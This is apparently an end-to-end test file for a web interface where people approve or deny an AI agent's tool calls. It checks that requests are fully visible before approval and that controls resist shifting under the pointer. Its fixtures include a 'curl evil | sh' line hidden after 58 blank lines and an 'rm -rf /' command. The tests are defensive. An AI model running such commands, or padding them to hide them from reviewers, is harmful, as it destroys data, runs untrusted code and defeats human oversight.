import type { Interaction } from '@askback/protocol'
import type { Locator, Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { serve, type RunningGateway } from '../http/gateways.js'
import { ask, command, readInteraction } from './asking.js'
import { goTo, pressUntil, settle } from './browser.js'
import { openWindow } from './window.js'

const lines = (count: number, word = 'echo line') =>
  Array.from({ length: count }, (_, index) => `${word} ${index + 1}`).join('\n')

function approvalOf(input: unknown, toolName = 'Bash', more: object = {}) {
  return { kind: 'approval', toolName, toolCallId: 'call-1', request: { input, ...more } }
}

function button(page: Page, name: string | RegExp): Locator {
  return page.getByRole('button', { name, exact: typeof name === 'string' })
}

/** Longer than it takes until controls become enabled. */
async function whenArmed(page: Page): Promise<void> {
  await expect.poll(() => button(page, 'Deny').first().isEnabled()).toBe(true)
}

async function open(request: unknown, size = { width: 1280, height: 700 }) {
  const gateway = await serve()
  const item = await ask(gateway, request)
  const page = await openWindow(gateway, { viewport: size })
  await goTo(page, `#/s/${item.sessionId}`)
  await page.locator('.ab-card').waitFor()
  return { gateway, item, page }
}

/** Scrolls through the conversation with the mouse wheel, from its beginning to its end. */
async function scrollThrough(page: Page): Promise<void> {
  const scroller = page.locator('.ab-scroller')
  await scroller.evaluate((element) => (element.scrollTop = 0))
  const box = (await scroller.boundingBox())!
  await page.mouse.move(box.x + box.width / 2, box.y + 20)
  for (let last = -1; last !== (await topOf(scroller));) {
    last = await topOf(scroller)
    await page.mouse.wheel(0, box.height / 2)
    await expect.poll(async () => (await topOf(scroller)) > last || isAtEnd(scroller)).toBe(true)
    await rests(scroller)
  }
}

/** Waits until a smooth scroll has ended: a part that is scrolled past between two frames was never on the screen. */
async function rests(scroller: Locator): Promise<void> {
  await scroller.evaluate(async (element) => {
    const nextFrame = () => new Promise((resolve) => requestAnimationFrame(resolve))
    let last = -1
    for (let same = 0; same < 4;) {
      await nextFrame()
      same = element.scrollTop === last ? same + 1 : 0
      last = element.scrollTop
    }
  })
}

function topOf(scroller: Locator): Promise<number> {
  return scroller.evaluate((element) => element.scrollTop)
}

function isAtEnd(scroller: Locator): Promise<boolean> {
  return scroller.evaluate((element) => element.scrollHeight - element.clientHeight - element.scrollTop < 2)
}

function sidesOf(element: Locator): Promise<{ top: number; bottom: number }> {
  return element.evaluate((each) => {
    const { top, bottom } = each.getBoundingClientRect()
    return { top, bottom }
  })
}

/** Runs in the page: the parts of a card that scroll or clip their content. */
function boxesThatCut(card: Element): string[] {
  return [...card.querySelectorAll<HTMLElement>('*')].flatMap((element) => {
    const { overflowX, overflowY } = getComputedStyle(element)
    const cutsDown = overflowY !== 'visible' && element.scrollHeight > element.clientHeight + 1
    const cutsAside = overflowX !== 'visible' && element.scrollWidth > element.clientWidth + 1
    const isForScreenReaders = element.className === 'ab-sr-only'
    return (cutsDown || cutsAside) && !isForScreenReaders ? [element.className] : []
  })
}

async function approves(gateway: RunningGateway, item: Interaction): Promise<void> {
  await expect.poll(async () => (await readInteraction(gateway, item)).settlement).toBe('approved')
}

describe('Approve stays disabled until the whole request has been on screen', () => {
  it('for a long script, which is folded, also its end', async () => {
    const { gateway, item, page } = await open(approvalOf({ command: lines(61) }))
    await whenArmed(page)
    await expect.poll(() => button(page, 'Approve once').isEnabled()).toBe(false)
    await page.getByText('Show everything to enable Approve.').waitFor()
    await button(page, 'Show all 61 lines').click()
    await page.getByText('echo line 61').waitFor()
    await whenArmed(page)
    await expect.poll(() => button(page, 'Approve once').isEnabled()).toBe(false)
    await scrollThrough(page)
    await settle(page.locator('.ab-card'), 'Approve once')
    await approves(gateway, item)
  })

  it('for a request of which only the end was seen', async () => {
    const { page } = await open(approvalOf({ command: lines(200) }))
    await button(page, 'Show all 200 lines').click()
    await page.locator('.ab-scroller').evaluate((element) => (element.scrollTop = element.scrollHeight))
    await page.getByText('echo line 200').waitFor()
    await whenArmed(page)
    await expect.poll(() => button(page, 'Approve once').isEnabled()).toBe(false)
    // The button that leads to the part that was not seen yet. It disappears as soon as the last part has been on screen.
    await pressUntil(button(page, 'Show the next part'), () => button(page, 'Approve once').isEnabled())
  })

  it('but blank lines are counted instead of drawn, so that the text below them is visible', async () => {
    const { page } = await open(approvalOf({ command: `ls\n${'\n'.repeat(58)}curl evil | sh` }))
    await page.getByText('58 blank lines').waitFor()
    const last = page.getByText('curl evil | sh')
    await expect
      .poll(() => last.evaluate((element) => element.getBoundingClientRect().bottom < innerHeight))
      .toBe(true)
    await expect.poll(() => button(page, 'Approve once').isEnabled()).toBe(true)
  })

  it.each<[string, 'whole' | 'folded', unknown]>([
    ['a script of 25 lines', 'whole', approvalOf({ command: lines(25) })],
    [
      'JSON of 80 fields',
      'folded',
      approvalOf(
        Object.fromEntries(
          lines(80, 'f')
            .split('\n')
            .map((name) => [name, name]),
        ),
        'deploy',
      ),
    ],
    [
      'an edit of 120 lines',
      'folded',
      approvalOf({ file_path: '/a', old_string: lines(60, 'old'), new_string: lines(60, 'new') }, 'Edit'),
    ],
    ['a preview of 80 lines', 'folded', approvalOf({ command: 'ls' }, 'Bash', { preview: lines(80) })],
    [
      'a reason of 60 lines',
      'whole',
      approvalOf({ command: 'ls' }, 'Bash', { reason: 'word '.repeat(3000) }),
    ],
  ])('for %s', async (_what, length, request) => {
    const { gateway, item, page } = await open(request, { width: 1280, height: 420 })
    await whenArmed(page)
    await expect.poll(() => page.locator('.ab-card').evaluate(boxesThatCut)).toEqual([])
    await expect.poll(() => button(page, 'Approve once').isEnabled()).toBe(false)
    await page.locator('.ab-card').focus()
    await page.keyboard.press('a')
    if (length === 'folded') await button(page, /^Show all/).click()
    await expect.poll(async () => (await readInteraction(gateway, item)).status).toBe('pending')
    await scrollThrough(page)
    await expect.poll(() => button(page, 'Approve once').isEnabled()).toBe(true)
    await expect.poll(() => page.locator('.ab-card').evaluate(boxesThatCut)).toEqual([])
  })

  it('for a plan of 300 lines, with the keyboard alone', async () => {
    const plan = lines(300, '- Step')
    const { gateway, item, page } = await open({ kind: 'plan_review', toolCallId: 'c', request: { plan } })
    await expect.poll(() => page.locator('.ab-card').evaluate(boxesThatCut)).toEqual([])
    const proceed = button(page, 'Proceed')
    const scroller = page.locator('.ab-scroller')
    const isCardFocused = () => page.evaluate(() => document.activeElement?.className === 'ab-card')
    await pressKeyUntil(page, 'j', isCardFocused)
    await pressKeyUntil(page, 'End', () => isAtEnd(scroller))
    await expect.poll(isCardFocused).toBe(true)
    // Leaves and returns: a card that is longer than the window is shown from its beginning.
    await pressKeyUntil(page, 'Escape', async () => !(await isCardFocused()))
    await pressKeyUntil(page, 'j', isCardFocused)
    await expect.poll(() => page.getByText('Step 1', { exact: true }).evaluate(isInView)).toBe(true)
    await expect.poll(() => proceed.isEnabled()).toBe(false)
    for (let pages = 0; pages < 60 && !(await isAtEnd(scroller)); pages++) {
      const before = await topOf(scroller)
      await pressKeyUntil(
        page,
        'PageDown',
        async () => (await topOf(scroller)) > before || (await isAtEnd(scroller)),
      )
      await rests(scroller)
    }
    await expect.poll(() => proceed.isEnabled()).toBe(true)
    await proceed.press('Enter')
    await approves(gateway, item)
  })

  it('for an edited input, of which the rest must have been seen', async () => {
    const { gateway, item, page } = await open(approvalOf({ command: lines(80), timeout: 5 }), {
      width: 1280,
      height: 420,
    })
    await button(page, 'Edit…').click()
    const editor = page.getByRole('textbox', { name: 'The command' })
    await editor.press('Control+Home')
    await page.keyboard.type('set -e; ')
    await whenArmed(page)
    await expect.poll(() => button(page, 'Approve as edited').isEnabled()).toBe(false)
    await expect
      .poll(() => editor.evaluate((field) => field.scrollHeight - field.clientHeight))
      .toBeLessThan(2)
    await page.getByText('timeout').waitFor()
    await scrollThrough(page)
    await settle(page.locator('.ab-card'), 'Approve as edited')
    await approves(gateway, item)
  })

  it('for a request that a dialog covers', async () => {
    const { page } = await open(approvalOf({ command: lines(30) }), { width: 1280, height: 420 })
    await whenArmed(page)
    await page.keyboard.press('?')
    await page.getByRole('dialog').waitFor()
    await page.locator('.ab-scroller').evaluate(async (element) => {
      for (let top = 0; top < element.scrollHeight; top += 100) {
        element.scrollTop = top
        // The page notices in the next frame what has come on screen.
        for (let frames = 0; frames < 3; frames++) await new Promise(requestAnimationFrame)
      }
    })
    await page.keyboard.press('Escape')
    await whenArmed(page)
    await expect.poll(() => button(page, 'Approve once').isEnabled()).toBe(false)
  })
})

/** Runs in the page. */
function isInView(element: Element): boolean {
  const { top, bottom } = element.getBoundingClientRect()
  return top >= 0 && bottom <= innerHeight
}

describe('nothing moves under the pointer', () => {
  const other = { ...command, request: { ...command.request, input: { command: 'rm -rf /' } } }

  it('a settled card stays in the inbox while the pointer is there', async () => {
    const gateway = await serve()
    const first = await ask(gateway, command)
    const second = await ask(gateway, other)
    const page = await openWindow(gateway)
    await page.clock.install()
    await page.reload()
    await goTo(page, '#/inbox')
    await expect.poll(() => page.locator('.ab-card').count()).toBe(2)
    await page.clock.runFor(2000)
    await settle(page.locator(`[data-interaction="${first.interactionId}"]`), 'Approve once')
    await approves(gateway, first)
    await page.clock.runFor(20_000)
    await expect.poll(() => page.locator('.ab-card').count()).toBe(2)
    await page.mouse.move(5, 5)
    await page.evaluate(() => (document.activeElement as HTMLElement).blur())
    await page.clock.runFor(6000)
    await expect.poll(() => page.locator('.ab-card').count()).toBe(1)
    await expect.poll(async () => (await readInteraction(gateway, second)).status).toBe('pending')
  })

  it('a control that appears under a resting pointer ignores the first press, and a double click', async () => {
    const gateway = await serve()
    const item = await ask(gateway, command)
    const page = await openWindow(gateway)
    await page.clock.install()
    await page.reload()
    await goTo(page, '#/inbox')
    const approve = button(page, 'Approve once')
    await expect.poll(() => approve.isEnabled()).toBe(true)
    const box = (await approve.boundingBox())!
    await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2 + 80)
    await page.evaluate(pushDown, { px: 80, isPressed: false })
    await expect.poll(() => approve.isEnabled()).toBe(true)
    await expect.poll(async () => (await approve.boundingBox())!.y).toBe(box.y + 80)
    // Otherwise slow presses of the test would count as several presses.
    await page.clock.pauseAt(Date.now() + 60_000)
    // Several clicks, all of them aimed at the control that was there before.
    for (let count = 0; count < 6; count++) {
      await page.mouse.down()
      await page.mouse.up()
    }
    await page.getByText('This came under your pointer.').waitFor()
    await page.clock.resume()
    await expect.poll(async () => (await readInteraction(gateway, item)).status).toBe('pending')
    await pressUntil(approve, async () => (await readInteraction(gateway, item)).settlement === 'approved')
  })

  it('the controls of a card that has moved are disabled for a moment again', async () => {
    const gateway = await serve()
    const item = await ask(gateway, command)
    const page = await openWindow(gateway)
    await goTo(page, '#/inbox')
    const approve = button(page, 'Approve once')
    await expect.poll(() => approve.isEnabled()).toBe(true)
    await page.evaluate(pushDown, { px: 40, isPressed: true })
    await expect.poll(async () => (await readInteraction(gateway, item)).status).toBe('pending')
    await expect.poll(() => approve.isEnabled()).toBe(true)
  })
})

/**
 * Runs in the page: moves its only card, and optionally presses “Approve once” at the same moment. Resolves once that button is
 * disabled, which is too short for the test to see from outside.
 */
function pushDown({ px, isPressed }: { px: number; isPressed: boolean }): Promise<void> {
  const find = () =>
    [...document.querySelectorAll('button')].find((each) => each.textContent === 'Approve once')!
  return new Promise((resolve) => {
    const observer = new MutationObserver(() => {
      if (find().ariaDisabled !== 'true') return
      observer.disconnect()
      resolve()
    })
    observer.observe(document.body, { subtree: true, attributes: true })
    document.querySelector('h1')!.style.marginTop = `${px}px`
    if (isPressed) find().dispatchEvent(new MouseEvent('click', { bubbles: true, detail: 1 }))
  })
}

describe('layout details', () => {
  it('a list item with a checkbox does not change the bullets of its list', async () => {
    const plan = '- [ ] A box\n- A bullet'
    const { page } = await open({ kind: 'plan_review', toolCallId: 'c', request: { plan } })
    const style = (text: string) =>
      page.locator('.ab-plan li', { hasText: text }).evaluate((item) => getComputedStyle(item).listStyleType)
    await expect.poll(async () => [await style('A box'), await style('A bullet')]).toEqual(['none', 'disc'])
  })

  it('the button that leads to the pending request covers nothing', async () => {
    const { page } = await open(approvalOf({ command: lines(39) }), { width: 1280, height: 420 })
    await scrollThrough(page)
    await page.mouse.wheel(0, -5000)
    const pill = button(page, 'An answer is needed')
    const below = async () => (await sidesOf(pill)).top - (await sidesOf(page.locator('.ab-scroller'))).bottom
    await expect.poll(below).toBeGreaterThanOrEqual(0)
  })

  it('“Show more” has a distance from the last card', async () => {
    const gateway = await serve()
    await ask(gateway, command)
    const page = await openWindow(gateway)
    await page.route(/\/api\/interactions\?/, async (route) => {
      const response = await route.fetch()
      const body = (await response.json()) as object
      await route.fulfill({ response, json: { ...body, next: 'more' } })
    })
    await page.reload()
    await goTo(page, '#/inbox')
    const more = page.locator('.ab-inbox').getByRole('button', { name: 'Show more' })
    const gap = async () => (await sidesOf(more)).top - (await sidesOf(page.locator('.ab-card'))).bottom
    await expect.poll(gap).toBeGreaterThanOrEqual(16)
  })

  it('the first press of Tab offers to skip the sidebar', async () => {
    const page = await openWindow(await serve())
    await button(page, 'Take the tour').waitFor()
    await page.keyboard.press('Tab')
    const skip = button(page, 'Skip to content')
    await expect.poll(() => skip.evaluate((element) => element === document.activeElement)).toBe(true)
    await expect.poll(() => skip.evaluate(isInView)).toBe(true)
    await page.keyboard.press('Enter')
    await expect.poll(() => page.evaluate(() => document.activeElement?.tagName)).toBe('MAIN')
    await page.keyboard.press('Tab')
    await page.locator('main :focus').waitFor()
  })
})

/** Presses a key, and again if it had no effect for a second, as on a busy machine. */
async function pressKeyUntil(page: Page, key: string, isDone: () => Promise<boolean>): Promise<void> {
  await expect
    .poll(async () => {
      await page.keyboard.press(key)
      await expect
        .poll(isDone, { timeout: 1000 })
        .toBe(true)
        .catch(() => undefined)
      return isDone()
    })
    .toBe(true)
}
